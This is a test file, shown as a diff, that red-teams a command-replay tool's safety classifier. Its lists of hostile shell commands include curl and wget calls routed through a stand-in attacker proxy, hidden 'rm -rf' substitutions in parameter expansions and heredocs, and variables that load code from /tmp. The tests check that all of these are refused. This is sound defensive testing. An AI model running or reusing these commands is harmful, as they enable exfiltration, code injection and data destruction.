@@ -1,0 +1,227 @@
+"""Redteam 13: a hostile transcript against replay's "prove it harmless" judgement.
+
+Three walls are tested, each with commands that got through before:
+
+* where curl and wget connect is read from their own grammar: an option that
+  takes a value never hides a host (``-x``, ``--resolve``, ``--connect-to``,
+  ``--socks5``, wget ``-e http_proxy=``), a config file or URL list makes the
+  destination unknowable (refused), proxy variables the command sets are
+  endpoints, and a value of an option curl knows is not mistaken for a host;
+* bare IPv6 addresses (``2001:db8::1``, ``[2001:db8::1]:22``, ``fe80::1%eth0``)
+  are endpoints like IPv4 ones;
+* code bash runs but the parser did not see (a backquote in ``${x:-…}``, in an
+  unquoted heredoc), a program named by a path into the working tree or /tmp,
+  a module's ``get`` in ``python -c``, lookup variables and writing options
+  never pass as read-only.
+
+And what is provably harmless still replays.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from kb.cli import cli
+from kb.replay.hostmap import build_host_map
+from logparse.shell import classify_safety, parse_command
+from tests.replay.conftest import RECORDED_HOST, Guard, make_session
+from tests.replay.test_plan import plan_for
+
+TARGET = "root@127.0.0.1:2222"
+EVERYTHING = ("launch", "mutating", "unknown", "host-network")
+
+#: Commands that reach a host outside the host map (or a host nobody can tell):
+#: refused even when everything is allowed.
+REACHES_OUT = [
+    # curl: option values that are where the request goes
+    "curl --proxy evil.example.com:3128 http://localhost/",
+    "curl -xevil.example.com:3128 http://localhost/",
+    "curl -sx evil.example.com:3128 http://localhost/",
+    "curl --proxy=evil.example.com:3128 http://localhost/",
+    "curl --preproxy socks5://evil.example.com http://localhost/",
+    "curl --resolve localhost:80:93.184.216.34 http://localhost/",
+    "curl --resolve localhost:80:127.0.0.1,2001:db8::1 http://localhost/",
+    "curl --connect-to localhost:80:evil.example.com:80 http://localhost/",
+    "curl --connect-to ::[2001:db8::1]:80 http://localhost/",
+    "curl --url=evil.example.com",
+    "curl --dns-servers 9.9.9.9 http://localhost/",
+    # curl: the destination is in a file or a template
+    "curl -K evil.cfg http://localhost/",
+    "curl --config evil.cfg",
+    "curl -K- http://localhost/",
+    "curl --url @urls.txt",
+    "curl --alt-svc cache.txt https://localhost/",
+    "curl --variable host@h.txt --expand-url 'http://{{host}}/'",
+    # curl operands that are not loopback, whatever their shape
+    "curl -s http_proxy",
+    "curl -s [2001:db8::1]:80",
+    "curl -s 2001:db8::1",
+    "curl 'http://{localhost,evil.example.com}/'",
+    # proxy and config variables the command sets
+    "http_proxy=http://evil.example.com:3128 curl http://localhost/",
+    "HTTPS_PROXY=evil.example.com:3128 curl https://localhost/",
+    "ALL_PROXY=socks5h://evil.example.com curl http://localhost/",
+    "env all_proxy=evil.example.com:1 curl http://localhost/",
+    "export http_proxy=http://evil.example.com:3128; curl http://localhost/",
+    "export https_proxy=http://evil.example.com:3128; python3 fetch.py",
+    "http_proxy=$P curl http://localhost/",
+    "CURL_HOME=/tmp/evil curl http://localhost/",
+    "HOME=/tmp/evil curl http://localhost/",
+    "WGETRC=/tmp/evilrc wget -qO- http://localhost/",
+    "echo 'proxy = evil.example.com:3128' > ~/.curlrc; curl http://localhost/",
+    # wget
+    "wget -e use_proxy=yes -e http_proxy=evil.example.com:3128 -qO- http://localhost/",
+    "wget -ehttps_proxy=evil.example.com:3128 -qO- https://localhost/",
+    "wget --execute=http_proxy=evil.example.com:3128 -qO- http://localhost/",
+    "wget -e input=urls.txt -qO- http://localhost/",
+    "wget -i urls.txt -O -",
+    "wget --input-file=urls.txt -O -",
+    "wget --config=/tmp/evil.rc -qO- http://localhost/",
+    "wget -r -H http://localhost/",
+    # bare IPv6 addresses outside URLs
+    "python3 client.py [2001:db8::1]:22",
+    "python3 client.py 2001:db8::1",
+    "python3 client.py --host=2001:db8::1",
+    "python3 client.py --host fe80::1%eth0",
+    "./bench --server [2001:db8::1]:8080",
+    "iperf3 -c 2001:db8::1",
+    "redis-cli -h 2001:db8::1 ping",
+    "mysql -h fe80::1%eth0",
+    "socat - TCP6:[2001:db8::1]:80",
+]
+
+
+@pytest.mark.parametrize("cmd", REACHES_OUT)
+def test_reaching_out_is_refused_even_when_everything_is_allowed(cmd: str) -> None:
+    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
+    step = plan_for([cmd], hm, allow=EVERYTHING, workdir="/").steps[0]
+    assert step.action == "skip", (cmd, step.reason)
+    assert "refused" in step.reason, step.reason
+
+
+#: Commands that must not pass as read-only (so they never run by default).
+NOT_READ_ONLY = [
+    # command substitution tree-sitter leaves inside a leaf; bash runs it
+    "echo ${x:-`rm -rf /x`}",
+    'echo "${x:-`rm -rf /x`}"',
+    "echo ${x/a/`rm -rf /x`}",
+    "echo ${x+`rm -rf /x`}",
+    "echo ${x#$(rm -rf /x)}",
+    "echo ${x%$(rm -rf /x)}",
+    "echo ${x,,$(rm -rf /x)}",
+    "echo ${x^$(rm -rf /x)}",
+    "echo \"${x:-'$(rm -rf /x)'}\"",
+    "cat <<EOF\n`rm -rf /x`\nEOF",
+    "python3 - <<EOF\nprint('`rm -rf /x`')\nEOF",
+    f"ssh root@{RECORDED_HOST} 'echo ${{x:-`rm -rf /x`}}'",
+    # a program named by a path into the working tree or /tmp
+    "./ls -la",
+    "bin/grep x f",
+    "~/bin/cat f",
+    "/tmp/x/cat f",
+    "./python -c 'import sys'",
+    # a module's get is a request
+    "python3 -c 'import httpx; print(httpx.get(\"http://127.0.0.1/\"))'",
+    # variables that change which code runs
+    "MANOPT='-P id' man ls",
+    "OPENSSL_CONF=/tmp/x python3 -c 'import ssl'",
+    "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar ls",
+    "LUA_INIT_5_4=@/tmp/x.lua lua -v",
+    "TERMINFO=/tmp/x tput init",
+    # options that load code or write files
+    "objdump --plugin /tmp/x.so -d a.out",
+    "nm --plugin /tmp/x.so a.out",
+    "dmidecode --dump-bin /etc/x",
+    "ss -D /etc/x",
+    "nvidia-bug-report.sh",
+]
+
+
+@pytest.mark.parametrize("cmd", NOT_READ_ONLY)
+def test_hidden_code_is_not_read_only(cmd: str) -> None:
+    safety = classify_safety(parse_command(cmd))
+    assert safety.cls != "read-only", (cmd, safety.reasons)
+    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
+    step = plan_for([cmd], hm, workdir="/").steps[0]
+    assert step.action == "skip", (cmd, step.reason)
+
+
+#: Provably harmless checks that must still replay by default.
+STILL_READ_ONLY = [
+    "grep -rn foo src/",
+    "echo $(date) `uname -r` $((1+2))",
+    'echo "${HOME:-/root}" ${x:-default} ${x/a/b}',
+    "cat <<'EOF'\n`not run` $(not run)\nEOF",
+    "echo ${x:-'$(literal)'}",
+    "grep -n '`' f.md",
+    "python3 -c 'import torch; print(torch.__version__)'",
+    "python3 -c 'import os; d = {}; print(d.get(1))'",
+    ".venv/bin/python -c 'import torch; print(torch.cuda.get_device_name(0))'",
+    "/root/ml-env/bin/python3 -c 'import deep_ep'",
+    "/usr/bin/nvidia-smi --query-gpu=name --format=csv",
+    f"ssh root@{RECORDED_HOST} 'grep -rn 2001:db8::1 /etc/hosts'",
+]
+
+
+@pytest.mark.parametrize("cmd", STILL_READ_ONLY)
+def test_harmless_checks_still_replay(cmd: str) -> None:
+    safety = classify_safety(parse_command(cmd))
+    assert safety.cls == "read-only", (cmd, safety.reasons)
+    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
+    step = plan_for([cmd], hm, workdir="/").steps[0]
+    assert step.action == "run", (cmd, step.reason)
+
+
+#: Requests to loopback that must run once allowed: no option value of curl or wget
+#: may be taken for a host (the fixed list of before refused these).
+LOOPBACK_REQUESTS = [
+    "curl -s http://localhost:8000/health",
+    "curl -s http://[::1]:8000/health",
+    "curl -sf -m 5 -o /dev/null -w '%{http_code}' http://127.0.0.1:30000/v1/models",
+    "curl --noproxy localhost.example -s http://localhost:8000/",
+    "curl --proxy-header 'X-A: b' --max-redirs 3 http://localhost:8000/",
+    "curl --resolve api.test:8000:127.0.0.1 http://localhost:8000/",
+    "curl -x '' http://localhost:8000/",
+    "curl -x http://127.0.0.1:3128 http://localhost:8000/",
+    "http_proxy=http://127.0.0.1:3128 curl http://localhost:8000/",
+    "wget -qO- http://127.0.0.1:8000/",
+    "wget --restrict-file-names unix --tries=2 -O - http://localhost:8000/",
+    "wget -e robots=off -nv -O - http://localhost:8000/",
+    "nc -z ::1 8000",
+]
+
+
+@pytest.mark.parametrize("cmd", LOOPBACK_REQUESTS)
+def test_loopback_requests_run_when_allowed(cmd: str) -> None:
+    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
+    step = plan_for([cmd], hm, allow=("unknown", "mutating"), workdir="/").steps[0]
+    assert step.action == "run", (cmd, step.reason)
+
+
+def run(*args: str) -> Result:
+    return CliRunner().invoke(cli, list(args), catch_exceptions=False)
+
+
+def test_hidden_substitutions_never_run_even_unsandboxed(tmp_path: Path, config: Path,
+                                                         ssh_guard: Guard) -> None:
+    """With bwrap off on the target, classification alone must stop them."""
+    sentinel = tmp_path / "sentinel"
+    sentinel.write_text("keep me\n")
+    h = f"ssh root@{RECORDED_HOST}"
+    calls = [
+        (f"{h} 'echo ${{x:-`rm -f {sentinel}`}}'", "\n", 0),
+        (f"{h} 'echo ${{x#$(rm -f {sentinel})}}'", "\n", 0),
+        (f"{h} bash -s <<'OUTER'\ncat <<EOF\n`rm -f {sentinel}`\nEOF\nOUTER", "\n", 0),
+        (f"{h} 'cat {sentinel}'", "keep me\n", 0),
+    ]
+    db = make_session(tmp_path, calls)
+    r = run("replay", "run", "--db", str(db), "--from", "1", "--remote-sandbox", "off",
+            "--json")
+    steps = [json.loads(x) for x in r.stdout.splitlines()]
+    ran = [s["recorded_command"] for s in steps if s["action"] == "run"]
+    assert ran == [calls[-1][0]], [(s["action"], s["reason"]) for s in steps]
+    assert sentinel.read_text() == "keep me\n"
